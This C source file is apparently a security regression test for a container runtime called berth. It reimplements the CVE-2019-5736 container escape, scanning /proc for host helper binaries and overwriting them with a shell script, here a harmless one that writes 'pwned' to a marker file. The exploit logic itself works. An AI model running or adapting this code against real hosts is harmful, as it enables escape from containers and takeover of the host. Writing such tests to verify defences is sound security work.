/*
 * exe-overwrite — the CVE-2019-5736 attack, run inside a container by
 * test/security/exe-overwrite.ts against a *copy* of berth's binaries.
 *
 *   exe-overwrite <duration ms> <payload file on the host> [stop file]
 *
 * Looks for host helpers (berth-exec, the monitor's init child and health
 * probes) while they are inside the container's pid namespace:
 *   - spins on open("/proc/<next pid>/exe") for the next few pids (a new
 *     process in the namespace takes the next number), and
 *   - now and then scans every /proc/<pid>/exe, /proc/<pid>/fd/<n> and
 *     /proc/<pid>/map_files/<range>.
 * Every link whose target names "berth" is "seen"; one that opens (O_RDONLY or
 * O_PATH) is "opened" and its fd is kept.  The kept fds are reopened through
 * /proc/self/fd/<n> with O_WRONLY|O_TRUNC over and over (ETXTBSY while the
 * binary runs; O_WRONLY alone where truncating is refused, as for a sealed
 * memfd); once that works ("writable") it writes a shell script that
 * writes "pwned" into the payload file when the next `berth exec` runs it on
 * the host ("written").  Ends at the deadline or when the stop file exists,
 * printing one JSON line: {"iterations":..,"seen":..,"opened":..,"denied":..,
 * "writable":..,"written":..,"targets":[...]}.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64
#define MAX_TARGETS 16

struct held {
  int fd;
  char path[64], name[256];
  int done;
};

static struct held held[MAX_HELD];
static int nheld;
static long seen, opened, denied, writable, written, iterations;
static char targets[MAX_TARGETS][256];
static int ntargets;
static char payload[4096];
static size_t payload_len;

static long now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void note_target(const char *name) {
  for (int i = 0; i < ntargets; i++)
    if (!strcmp(targets[i], name)) return;
  if (ntargets < MAX_TARGETS) snprintf(targets[ntargets++], sizeof targets[0], "%s", name);
  printf("seen %s\n", name);
  fflush(stdout);
}

static int is_helper(const char *target) {
  return strstr(target, "berth") != NULL;
}

/* Tries to open a /proc link to a helper; keeps the fd on success. */
static void try_link(const char *path, const char *target) {
  seen++;
  note_target(target);
  for (int i = 0; i < nheld; i++)
    if (!strcmp(held[i].path, path)) return; /* one fd per link is enough */
  if (nheld >= MAX_HELD) return;
  int flags[] = { O_RDONLY, O_PATH };
  for (int i = 0; i < 2; i++) {
    int fd = open(path, flags[i] | O_CLOEXEC);
    if (fd < 0) {
      if (errno == EACCES || errno == EPERM) denied++;
      continue;
    }
    char name[256];
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    ssize_t n = readlink(self, name, sizeof name - 1);
    name[n > 0 ? n : 0] = 0;
    /* The process may have exec'd between the readlink and the open: then this is the
     * container's own program (its own file to write), not a host helper. */
    if (!is_helper(name)) {
      close(fd);
      return;
    }
    opened++;
    printf("opened %s -> %s (%s)\n", path, name, i ? "O_PATH" : "O_RDONLY");
    fflush(stdout);
    held[nheld].fd = fd;
    held[nheld].done = 0;
    snprintf(held[nheld].name, sizeof held[nheld].name, "%s", name);
    snprintf(held[nheld].path, sizeof held[nheld].path, "%s", path);
    nheld++;
    return;
  }
}

static void check_link(const char *path) {
  char target[256];
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n <= 0) return;
  target[n] = 0;
  if (is_helper(target)) try_link(path, target);
}

/* /proc/<pid>/exe; a helper whose exe cannot even be read still shows in comm. */
static void check_pid(int pid) {
  char path[64], target[256];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n > 0) {
    target[n] = 0;
    if (is_helper(target)) try_link(path, target);
    return;
  }
  if (errno != EACCES && errno != EPERM) return;
  char comm_path[64], comm[64] = "";
  snprintf(comm_path, sizeof comm_path, "/proc/%d/comm", pid);
  FILE *f = fopen(comm_path, "re");
  if (!f) return;
  if (!fgets(comm, sizeof comm, f)) comm[0] = 0;
  fclose(f);
  comm[strcspn(comm, "\n")] = 0;
  if (!is_helper(comm)) return;
  char label[128];
  snprintf(label, sizeof label, "comm:%s (exe link denied)", comm);
  seen++;
  denied++;
  note_target(label);
}

static void scan_dir_links(const char *dir) {
  DIR *d = opendir(dir);
  if (!d) return;
  struct dirent *e;
  char path[512];
  while ((e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
    check_link(path);
  }
  closedir(d);
}

/* Every process: exe, fds, mapped files.  Returns the highest pid seen. */
static int full_scan(void) {
  int max = 1, self = getpid();
  DIR *d = opendir("/proc");
  if (!d) return max;
  struct dirent *e;
  char path[512];
  while ((e = readdir(d))) {
    int pid = atoi(e->d_name);
    if (pid <= 0) continue;
    if (pid > max) max = pid;
    if (pid == self) continue;
    check_pid(pid);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    scan_dir_links(path);
    snprintf(path, sizeof path, "/proc/%d/map_files", pid);
    scan_dir_links(path);
  }
  closedir(d);
  return max;
}

/* The attack proper: the helper has exec'd or exited, its file is writable. */
static void try_write(void) {
  for (int i = 0; i < nheld; i++) {
    if (held[i].done) continue;
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", held[i].fd);
    int fd = open(self, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (fd < 0 && errno == EPERM) fd = open(self, O_WRONLY | O_CLOEXEC); /* sealed against shrinking: write over it then */
    if (fd < 0) {
      if (errno != ETXTBSY) held[i].done = 1; /* EACCES, EPERM: it will not change */
      continue;
    }
    writable++;
    held[i].done = 1;
    if (pwrite(fd, payload, payload_len, 0) == (ssize_t)payload_len) {
      written++;
      printf("written %s\n", held[i].name);
    } else {
      printf("writable but write failed %s: %s\n", held[i].name, strerror(errno));
    }
    fflush(stdout);
    close(fd);
  }
}

int main(int argc, char **argv) {
  if (argc < 3) {
    fprintf(stderr, "usage: exe-overwrite <duration ms> <payload file on the host> [stop file]\n");
    return 2;
  }
  long deadline = now_ms() + atol(argv[1]);
  const char *stop = argc > 3 ? argv[3] : NULL;
  payload_len = (size_t)snprintf(payload, sizeof payload, "#!/bin/sh\necho pwned > '%s'\n", argv[2]);
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ready\n");
  int next = full_scan() + 1;
  while (now_ms() < deadline) {
    iterations++;
    for (int pid = next; pid < next + 4; pid++) check_pid(pid);
    if (nheld) try_write();
    if (iterations % 64 == 0) {
      int max = full_scan();
      if (max + 1 > next) next = max + 1;
      if (stop && access(stop, F_OK) == 0) break;
    }
  }
  try_write();
  printf("{\"iterations\":%ld,\"seen\":%ld,\"opened\":%ld,\"denied\":%ld,\"writable\":%ld,\"written\":%ld,\"targets\":[",
         iterations, seen, opened, denied, writable, written);
  for (int i = 0; i < ntargets; i++) printf("%s\"%s\"", i ? "," : "", targets[i]);
  printf("]}\n");
  return 0;
}
